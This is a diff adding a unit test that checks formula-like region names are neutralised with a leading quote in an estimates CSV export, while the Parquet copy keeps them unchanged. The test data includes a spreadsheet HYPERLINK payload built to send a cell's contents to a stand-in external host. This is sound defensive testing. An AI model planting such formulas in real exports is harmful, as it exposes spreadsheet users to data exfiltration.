@@ -124,3 +124,18 @@ def test_too_few_units_is_noted_in_the_table():
     html = index.index_html([outcome("11.01", "A", estimate(1.0), too_few=True),
                              outcome("11.02", "B", estimate(2.0))], "pemda", "en")
     assert html.count("too few units") == 1
+
+
+def test_estimates_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    """A region name from the raw files that begins like a formula is written with a leading
+    quote in estimates.csv (OWASP, as prepare's CSVs); the Parquet copy keeps it; numbers
+    (negative estimates) stay numbers."""
+    name = '=HYPERLINK("http://x.example/?"&A1,"Kota")'
+    rows = [outcome("11.01", name, estimate(-1.5)), outcome("11.02", "@SUM(1)", estimate(2.0))]
+    index.write_estimates(tmp_path, rows, "pemda")
+    csv = pd.read_csv(tmp_path / "estimates.csv", dtype={"region": str}).set_index("region")
+    assert csv.loc["11.01", "name"] == "'" + name
+    assert csv.loc["11.02", "name"] == "'@SUM(1)"
+    assert csv.loc["11.01", "estimate"] == -1.5
+    parquet = pd.read_parquet(tmp_path / "estimates.parquet").set_index("region")
+    assert parquet.loc["11.01", "name"] == name
